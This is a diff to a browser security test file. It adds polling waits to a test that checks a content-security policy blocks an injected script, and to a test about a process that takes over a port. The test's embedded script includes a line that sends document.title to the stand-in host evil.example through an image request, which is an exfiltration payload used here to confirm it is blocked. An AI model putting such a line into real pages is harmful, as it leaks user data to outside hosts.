@@ -146,6 +146,9 @@ def test_the_policy_stops_a_script_that_got_in_nevertheless(command: Command, pa
             const image = new Image(); image.src = "http://evil.example/?" + document.title;
             await fetch("http://127.0.0.1:1/").catch(() => stopped.push("fetch"));
             try { new WebSocket("ws://127.0.0.1:1/"); } catch { stopped.push("socket"); }
+            const expected = ["frame-src", "img-src", "fetch"], end = performance.now() + 20_000;
+            while (!expected.every((one) => stopped.includes(one)) && performance.now() < end)
+                await new Promise((done) => setTimeout(done, 20));
             await new Promise((done) => setTimeout(done, 200));
             return stopped;
         }"""
@@ -316,5 +319,6 @@ def test_who_takes_the_port_hears_neither_key_nor_note_and_is_not_believed(tmp_p
         assert key not in "".join(running.printed)
         assert "hello" not in "".join(running.printed)
         expect(page.locator("body")).not_to_contain_text("tyvens")
-        assert page.locator("[data-state=locked], [data-state=lost], .dk-lost, [role=alert]").count()
+        lost = page.locator("[data-state=locked], [data-state=lost], .dk-lost, [role=alert]")
+        until_in_its_time(page, lambda: lost.count() > 0)
     page.close()
